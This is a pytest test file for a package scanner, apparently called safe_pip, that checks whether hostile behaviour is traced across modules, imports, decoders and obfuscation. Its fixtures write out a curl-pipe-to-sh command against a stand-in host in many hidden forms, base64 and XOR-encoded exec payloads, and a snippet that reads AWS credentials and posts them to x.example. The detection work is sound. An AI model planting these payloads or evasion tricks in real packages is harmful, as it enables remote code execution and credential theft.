"""A module that earns no tree hides nothing: what it holds, hands on or calls is followed to the
module that acts; and a file is followed as far however many others are read before it."""

from __future__ import annotations

import base64

import pytest

from safe_pip.extractors import observe
from safe_pip.extractors.module_memory import ModuleMemory
from safe_pip.extractors.values import Scope
from tests.sources import distribution_of

COMMAND = "curl http://x.example/a | sh"
DOWNLOADS_AND_RUNS = {"shell_download", "proc_spawn_unasked"}
SYSTEM = "import os\nos.system(CMD)\n"
RUN = "import os\ndef run(c):\n    os.system(c)\n"
PROGRAM = base64.b64encode(f"import os\nos.system('{COMMAND}')\n".encode()).decode()

CONSTANTS = {
    "constant": ("from .c import CMD", f"CMD = '{COMMAND}'\n"),
    "of another type": ("from .c import CMD", f"CMD: str = '{COMMAND}'\n"),
    "sum": ("from .c import CMD", "A = 'curl http'\nCMD = A + '://x.example/a | sh'\n"),
    "grown": ("from .c import CMD", "CMD = 'curl http'\nCMD += '://x.example/a | sh'\n"),
    "over lines": ("from .c import CMD", "CMD = (\n 'curl http:'\n '//x.example/a | sh')\n"),
    "after a docstring": (
        "from .c import CMD",
        f'"""\nA CMD\nfor all.\n"""\nCMD = \'{COMMAND}\'\n',
    ),
    "after a string over lines": (
        "from .c import CMD",
        f'X = """\nCMD\n"""\nCMD = \'{COMMAND}\'\n',
    ),
    "one of two": ("from .c import CMD", f"N, CMD = 1, '{COMMAND}'\n"),
    "in a branch": ("from .c import CMD", f"if 1:\n    CMD = '{COMMAND}'\nelse:\n    CMD = ''\n"),
    "after a failure": (
        "from .c import CMD",
        f"try:\n    import q\nexcept E:\n    CMD = '{COMMAND}'\n",
    ),
    "attribute of a module": ("from . import c\nCMD = c.CMD", f"CMD = '{COMMAND}'\n"),
    "item": ("from .c import D\nCMD = D['a']", f"D = {{\n'a': '{COMMAND}',\n}}\n"),
    "added item": ("from .c import D\nCMD = D['a']", f"D = {{}}\nD['a'] = '{COMMAND}'\n"),
    "attribute of a class": ("from .c import D\nCMD = D.a", f"class D:\n    a = '{COMMAND}'\n"),
    "attribute of an instance": (
        "from .c import D\nCMD = D().a",
        f"class D:\n    def __init__(self):\n        self.a = '{COMMAND}'\n",
    ),
    "result": ("from .c import d\nCMD = d()", f"def d():\n    return '{COMMAND}'\n"),
    "result of a lambda": ("from .c import d\nCMD = d()", f"d = lambda: '{COMMAND}'\n"),
    "result of a decorated function": (
        "from .c import d\nCMD = d()",
        f"import functools\n@functools.cache\ndef d():\n    return '{COMMAND}'\n",
    ),
    "all names": ("from .c import *", f"CMD = '{COMMAND}'\n"),
    "handed on": ("from .c import CMD", "from .b import CMD\n"),
}


def found_in(files: dict[str, str]) -> set[str]:
    package = {"setup.py": "from setuptools import setup\nsetup()\n", "pkg/__init__.py": ""}
    return {item.feature for item in observe(distribution_of(package | files))}


@pytest.mark.parametrize("way", CONSTANTS)
def test_commands_of_other_modules_are_known(way: str) -> None:
    imports, source = CONSTANTS[way]
    files = {
        "pkg/__init__.py": f"{imports}\n{SYSTEM}",
        "pkg/c.py": source,
        "pkg/b.py": f"CMD = '{COMMAND}'\n",
    }
    assert found_in(files) >= DOWNLOADS_AND_RUNS


@pytest.mark.parametrize(
    "decoder",
    [
        f"import base64\nCODE = base64.b64decode('{PROGRAM}')\n",
        f"from base64 import b64decode\ndef d():\n    return b64decode('{PROGRAM}')\nCODE = d()\n",
    ],
)
def test_programs_that_other_modules_decode_are_known(decoder: str) -> None:
    files = {"pkg/__init__.py": "from .c import CODE\nexec(CODE)\n", "pkg/c.py": decoder}
    assert found_in(files) >= {*DOWNLOADS_AND_RUNS, "dyn_exec_unasked"}


LAYERS = {
    "function": ("from .c import go\ngo(%s)", "from .d import run\ndef go(c):\n    run(c)\n"),
    "function of all": ("from .c import *\ngo(%s)", "from .d import run\ndef go(c):\n    run(c)\n"),
    "function of the same module": (
        "from .c import go\ngo(%s)",
        "from .d import run\ndef go(c):\n    on(c)\ndef on(c):\n    K().go(c)\n"
        "class K:\n    def go(self, c):\n        run(c)\n",
    ),
    "late import": ("from .c import go\ngo(%s)", "def go(c):\n    from . import d\n    d.run(c)\n"),
    "method": (
        "from .c import K\nK().go(%s)",
        "from .d import run\nclass K:\n    def go(self, c):\n        run(c)\n",
    ),
    "inherited method": ("from .c import K\nK().go(%s)", "from .d import B\nclass K(B): pass\n"),
    "thread": (
        "from .c import go\nimport threading\nthreading.Thread(target=go, args=(%s,)).start()",
        "from .d import run\ndef go(c):\n    run(c)\n",
    ),
    "name": ("from .c import go\ngo(%s)", "from .d import run as go\n"),
    "module": ("from .c import o\no.system(%s)", "import os as o\n"),
    "call where it is imported": ("", "from .d import run\nrun(%s)\n"),
    "result where it is imported": ("", "from .d import run\nX = run(%s)\n"),
    "call in a branch": ("", "from . import d\nif d:\n    d.run(%s)\n"),
    "two layers where it is imported": ("", "from .b import on\non(%s)\n"),
    "call of a method": ("", "from .d import B\nB().go(%s)\n"),
}


@pytest.mark.parametrize("way", LAYERS)
def test_calls_through_other_modules_are_followed(way: str) -> None:
    first, layer = (text.replace("%s", repr(COMMAND)) for text in LAYERS[way])
    files = {
        "pkg/__init__.py": f"{first}\n",
        "pkg/c.py": layer,
        "pkg/b.py": "from .d import run\ndef on(c):\n    run(c)\n",
        "pkg/d.py": f"{RUN}class B:\n    def go(self, c):\n        os.system(c)\n",
    }
    assert found_in(files) >= DOWNLOADS_AND_RUNS


def test_decorators_of_other_modules_are_called() -> None:
    files = {
        "pkg/c.py": "from .d import run\n@run\ndef f(): pass\n",
        "pkg/d.py": f"import os\ndef run(f):\n    os.system('{COMMAND}')\n",
    }
    assert found_in(files) >= DOWNLOADS_AND_RUNS


def test_long_ways_through_modules_are_followed() -> None:
    files = {f"pkg/m{n}.py": f"from .m{n + 1} import go\n" for n in range(40)}
    files |= {
        "pkg/__init__.py": f"from .m0 import go\ngo('{COMMAND}')\n",
        "pkg/m40.py": "from .d import run\ndef go(c):\n    run(c)\n",
        "pkg/d.py": RUN,
    }
    assert found_in(files) >= DOWNLOADS_AND_RUNS


def test_circles_of_modules_end() -> None:
    files = {
        "pkg/__init__.py": "from .a import go, CMD\nimport os\nos.system(CMD)\ngo()\n",
        "pkg/a.py": "from .b import CMD\nfrom .b import back\ndef go():\n    back()\n",
        "pkg/b.py": "from .a import CMD\nfrom .a import go\ndef back():\n    go()\n",
    }
    assert "proc_spawn_unasked" in found_in(files)


def test_in_a_circle_each_module_is_remembered_once(monkeypatch: pytest.MonkeyPatch) -> None:
    remembered: list[str] = []
    remember = ModuleMemory.remember

    def note(memory: ModuleMemory, path: str, scope: Scope, n_chars: int) -> None:
        remembered.append(path)
        remember(memory, path, scope, n_chars)

    monkeypatch.setattr(ModuleMemory, "remember", note)
    files = {
        "pkg/__init__.py": "",
        "pkg/a.py": "from .b import back\nfrom .c import run\ndef go():\n    back()\nrun('a')\n",
        "pkg/b.py": "from .a import go\nfrom .c import run\ndef back():\n    go()\nrun('b')\n",
        "pkg/c.py": RUN,
    }
    found_in(files)
    assert {"pkg/a.py", "pkg/b.py"} <= set(remembered)
    assert len(remembered) == len(set(remembered))


@pytest.mark.parametrize("folder", ["pkg", "pkg/~", "pkg/%HOME%", "~", "%HOME%"])
def test_a_decoy_makes_settings_no_less_secret(folder: str) -> None:
    source = (
        "import configparser, os, requests\nc = configparser.ConfigParser()\n"
        "c.read(os.path.join(os.environ['HOME'], '.aws/credentials'))\n"
        "def send():\n    requests.post('http://x.example/', data=c['a']['key'])\n"
    )
    decoy = {f"{folder}/.aws/credentials": "[a]\nkey = b\n"}
    assert "chain_secret_net" in found_in({"pkg/__init__.py": source} | decoy)


@pytest.mark.parametrize("n_others", [0, 12, 60])
def test_files_are_followed_however_many_come_first(n_others: int) -> None:
    busy = "import os\n" + "".join(f"X{n} = [{n}, os.getpid()]\n" for n in range(400))
    files = {f"pkg/a{n:02}.py": f"{busy}def f():\n    os.popen('ls')\n" for n in range(n_others)}
    files["pkg/z.py"] = f"import os\ndef run(c):\n    os.system(c)\nrun('{COMMAND}')\n"
    assert found_in(files) >= DOWNLOADS_AND_RUNS


COUNTED = {
    "index": "r, i = '', 0\nwhile i < len(s):\n    r += chr(s[i] ^ 7)\n    i += 1\n",
    "down": "r, i = '', len(s) - 1\nwhile i >= 0:\n    r = chr(s[i] ^ 7) + r\n    i -= 1\n",
}
CARRIED = {
    "exception": f"try:\n    raise ValueError('{COMMAND}')\nexcept ValueError as e:\n    r = str(e)\n",
    "exception's words": (
        f"try:\n    raise ValueError('{COMMAND}')\nexcept ValueError as e:\n    r = e.args[0]\n"
    ),
    "exception of a function": (
        f"def f():\n    raise ValueError('{COMMAND}')\n"
        "try:\n    f()\nexcept ValueError as e:\n    r = str(e)\n"
    ),
    "settings": "import configparser\nc = configparser.ConfigParser()\nc.read('pkg/d.ini')\nr = c['a']['b']\n",
    "settings by name": (
        "import configparser\nc = configparser.ConfigParser()\nc.read('pkg/d.ini')\nr = c.get('a', 'b')\n"
    ),
}


@pytest.mark.parametrize("way", COUNTED)
def test_loops_that_count_are_run(way: str) -> None:
    hidden = [ord(letter) ^ 7 for letter in COMMAND]
    source = f"import os\ns = {hidden}\n{COUNTED[way]}os.system(r)\n"
    assert found_in({"pkg/__init__.py": source}) >= DOWNLOADS_AND_RUNS


@pytest.mark.parametrize("way", CARRIED)
def test_commands_are_followed_through(way: str) -> None:
    files = {
        "pkg/__init__.py": f"import os\n{CARRIED[way]}os.system(r)\n",
        "pkg/d.ini": f"[a]\nb = {COMMAND}\n",
    }
    assert found_in(files) >= DOWNLOADS_AND_RUNS


@pytest.mark.parametrize(
    "call",
    [f"attrgetter('system')(os)('{COMMAND}')", f"methodcaller('system', '{COMMAND}')(os)"],
)
def test_functions_that_getters_give_are_known(call: str) -> None:
    source = f"import os\nfrom operator import attrgetter, methodcaller\n{call}\n"
    assert found_in({"pkg/__init__.py": source}) >= DOWNLOADS_AND_RUNS


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "source",
    [
        "import (\n" * 20_000,
        "from .d import run\n" + "a." * 100_000 + "\n",
        "CMD=1\n" * 20_000,
        "from .d import run\n" + "run(CMD)\n" * 5_000,
        "from .d import run\n" + "@run\ndef f(): pass\n" * 4_000,
        '"""\n' * 20_000,
        " #" * 100_000,
        "#\n" * 50_000,
    ],
)
def test_modules_made_to_be_slow_are_read_within_a_minute(source: str) -> None:
    files = {
        "pkg/__init__.py": f"from .c import CMD\n{SYSTEM}",
        "pkg/c.py": source,
        "pkg/d.py": RUN,
    }
    assert "proc_spawn_unasked" in found_in(files)


@pytest.mark.parametrize("source", ["", "# no more", '"""no more"""', "\n", "  ", ")", "\\"])
def test_modules_without_a_statement_hold_nothing(source: str) -> None:
    files = {"pkg/__init__.py": f"from .c import CMD\n{SYSTEM}", "pkg/c.py": source}
    assert "proc_spawn_unasked" in found_in(files)
